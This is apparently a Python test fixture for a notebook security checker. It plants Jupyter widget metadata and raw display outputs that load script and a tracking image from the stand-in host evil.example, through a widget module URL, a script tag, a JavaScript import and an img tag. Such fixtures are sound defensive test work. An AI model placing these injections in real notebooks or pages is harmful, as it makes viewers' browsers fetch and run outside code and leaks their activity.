"""X04 Widget views and custom types that make a page load modules from elsewhere.

hides: evil.example
hides: vnd.jupyter.widget-state
"""


def change(notebook, folder):
    state = {
        "x": {"model_module": "http://evil.example/x.js", "model_name": "X", "model_module_version": "1", "state": {}}
    }
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": state}
    }


# %% extra
from IPython.display import display

display(
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}}, raw=True
)
display(
    {"application/x-evil": "<script src=//evil.example/x.js>", "application/javascript": "import('//evil.example')"},
    raw=True,
)
display(
    {
        "text/html": "<div data-mime-type='application/vnd.jupyter.widget-view+json'><img src='//evil.example/track.png'>"
    },
    raw=True,
)
